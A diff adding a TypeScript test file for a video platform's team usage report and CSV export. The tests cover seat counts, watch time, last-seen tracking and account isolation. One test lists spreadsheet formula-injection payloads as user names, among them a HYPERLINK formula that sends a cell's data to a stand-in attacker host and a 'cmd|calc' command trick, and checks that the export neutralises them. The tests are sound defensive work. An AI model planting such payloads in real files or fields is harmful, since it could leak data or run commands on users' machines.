@@ -1,0 +1,197 @@
+import Papa from 'papaparse'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { teamCalls } from '#contract/team/team-calls.ts'
+import { insertSwitchedSession } from '#server/identity/sessions/switched-session.store.ts'
+import { runUpkeep } from '#support/run-upkeep.ts'
+import { sessionsOf, storeKnownBrowser } from '#support/stored/sessions.ts'
+import { storeViewing } from '#support/stored/watching.ts'
+import { addUser, addVideo, teamWith } from '#support/team-site.ts'
+import { createTestApp, type TestApp } from '#support/test-app.ts'
+import { usageCsv } from './usage-report.ts'
+
+let site: TestApp
+beforeAll(async () => {
+  site = await createTestApp({ settings: { RATE_LIMITS: '1000' } })
+  await addVideo(site, 'short', 60)
+  await addVideo(site, 'long', 3600)
+})
+afterAll(() => site.close())
+
+const watch = (
+  userId: string,
+  videoId: 'short' | 'long',
+  viewing: { seen?: boolean; at?: Date; until?: number; played?: number; estimated?: number },
+) =>
+  storeViewing(site.services.database.db, {
+    userId,
+    videoId,
+    at: viewing.at ?? site.clock.now(),
+    seen: viewing.seen ?? false,
+    seconds: viewing.until ?? 0,
+    played: viewing.played ?? 0,
+    estimated: viewing.estimated ?? 0,
+  })
+
+describe('the usage report', () => {
+  test('names the users with a seat and without, in the order of their seats, and no removed one', async () => {
+    const team = await teamWith(site, 3)
+    await addUser(site, team.accountId, 'b@usage.example', { name: 'Bea' })
+    await addUser(site, team.accountId, 'gone@usage.example', { removed: true, confirmed: false })
+    await addUser(site, team.accountId, 'a@usage.example', { name: 'Abe', confirmed: false })
+    await addUser(site, team.accountId, 'c@usage.example', { name: 'Cy' })
+    const { status, body } = await team.owner.call(teamCalls.usageReport)
+    expect(status).toBe(200)
+    expect(body.seats).toEqual({ used: 4, total: 3 })
+    expect(body.users.slice(1)).toEqual(
+      [
+        ['Bea', 'b@usage.example', true, true],
+        ['Abe', 'a@usage.example', false, true],
+        ['Cy', 'c@usage.example', true, false],
+      ].map(([name, email, confirmed, seat]) => ({
+        id: expect.any(String),
+        name,
+        email,
+        confirmed,
+        seat,
+        lastSeenAt: null,
+        videosOpened: 0,
+        watchedSeconds: 0,
+        estimated: false,
+      })),
+    )
+  })
+
+  test('counts each opened video once, and of each what was played', async () => {
+    const team = await teamWith(site, 5)
+    const id = await addUser(site, team.accountId, 'watcher@usage.example')
+    await watch(id, 'short', { seen: true, until: 5, played: 1.35 })
+    await watch(id, 'long', { until: 90.4, at: new Date('2026-12-24T18:00:00Z'), played: 7300 })
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users[1]).toMatchObject({
+      videosOpened: 2,
+      watchedSeconds: 7301,
+      estimated: false,
+      lastSeenAt: '2026-12-24T18:00:00.000Z',
+    })
+  })
+
+  test('says of whom a part is an estimate, on the screen and in the file', async () => {
+    const team = await teamWith(site, 5)
+    const id = await addUser(site, team.accountId, 'before@usage.example', { name: 'Before' })
+    await watch(id, 'short', { seen: true, played: 30, estimated: 60 })
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users.map(({ watchedSeconds, estimated }) => [watchedSeconds, estimated])).toEqual([
+      [0, false],
+      [90, true],
+    ])
+    const { raw } = await team.owner.call(teamCalls.usageCsv)
+    expect(raw.rawPayload.toString('utf8')).toContain('before@usage.example,yes,yes,2026-')
+    expect(raw.rawPayload.toString('utf8')).toMatch(/before@usage\.example,.*,1,90,yes\r?\n/)
+  })
+
+  test('knows who was here without watching anything, and still does when the session is over', async () => {
+    const team = await teamWith(site, 5)
+    const lastSeen = async () => {
+      const { users } = (await team.owner.call(teamCalls.usageReport)).body
+      return users.find(({ id }) => id === team.ownerId)?.lastSeenAt
+    }
+    expect(await lastSeen()).toBe(site.clock.real().toISOString())
+    const { db } = site.services.database
+    const seen = new Date('2026-11-30T10:00:00Z')
+    const id = await addUser(site, team.accountId, 'left@usage.example')
+    await storeKnownBrowser(db, id, seen)
+    await runUpkeep(site.services)
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users[1]?.lastSeenAt).toBe(seen.toISOString())
+  })
+
+  test('does not take the admin, who is switched into an account, for the person', async () => {
+    const [team, admin] = [await teamWith(site, 5), await teamWith(site, 5)]
+    const { db } = site.services.database
+    const id = await addUser(site, team.accountId, 'away@usage.example')
+    const [own] = await sessionsOf(db, admin.ownerId)
+    const now = site.clock.real()
+    await db.transaction().execute((trx) =>
+      insertSwitchedSession(trx, {
+        tokenHash: Buffer.alloc(32, 7),
+        userId: id,
+        from: own?.token_hash ?? Buffer.alloc(0),
+        userAgent: null,
+        network: '127.0.0.1',
+        now,
+        expiresAt: new Date(now.getTime() + 60_000),
+      }),
+    )
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users[1]).toMatchObject({ id, lastSeenAt: null })
+  })
+
+  test('shows nothing of another account', async () => {
+    const [mine, theirs] = [await teamWith(site, 5), await teamWith(site, 5)]
+    await watch(await addUser(site, theirs.accountId, 'zza7@usage.example', { name: 'zzA7' }), 'long', {
+      until: 9,
+    })
+    for (const call of [teamCalls.usageReport, teamCalls.usageCsv]) {
+      const answer = await mine.owner.call(call)
+      expect(answer.status).toBe(200)
+      expect(answer.text).not.toMatch(/zza7/i)
+    }
+  })
+})
+
+describe('the report as a file', () => {
+  test('is an attachment in UTF-8 that spreadsheet programs read as such', async () => {
+    const team = await teamWith(site, 5)
+    await addUser(site, team.accountId, 'jo@usage.example', { name: 'Jörg "J" Öz, Łódź; 李' })
+    const { status, headers, raw } = await team.owner.call(teamCalls.usageCsv)
+    expect(status).toBe(200)
+    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
+    expect(headers['content-disposition']).toMatch(/^attachment; filename="users-\d{4}-\d\d-\d\d\.csv"$/)
+    expect(raw.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+    const { data, errors } = Papa.parse(raw.rawPayload.toString('utf8').slice(1), {
+      header: true,
+      skipEmptyLines: true,
+    })
+    expect(errors).toEqual([])
+    expect(data).toHaveLength(2)
+    expect(data[1]).toEqual({
+      Name: 'Jörg "J" Öz, Łódź; 李',
+      Email: 'jo@usage.example',
+      Confirmed: 'yes',
+      Seat: 'yes',
+      'Last seen': '',
+      'Videos opened': '0',
+      'Watched seconds': '0',
+      'Partly estimated': 'no',
+    })
+  })
+
+  test.each([
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1',
+    '-1+cmd|calc',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '＝1',
+  ])('runs nothing that somebody called themselves: %j', (name) => {
+    const csv = usageCsv([
+      {
+        id: 'u',
+        name,
+        email: '=a@x.de',
+        confirmed: true,
+        seat: true,
+        lastSeenAt: null,
+        videosOpened: 1,
+        watchedSeconds: 60,
+        estimated: false,
+      },
+    ])
+    const [row] = Papa.parse<Record<string, string>>(csv.slice(1), {
+      header: true,
+      skipEmptyLines: true,
+    }).data
+    expect(row).toMatchObject({ Name: `'${name}`, Email: "'=a@x.de", 'Watched seconds': '60' })
+  })
+})
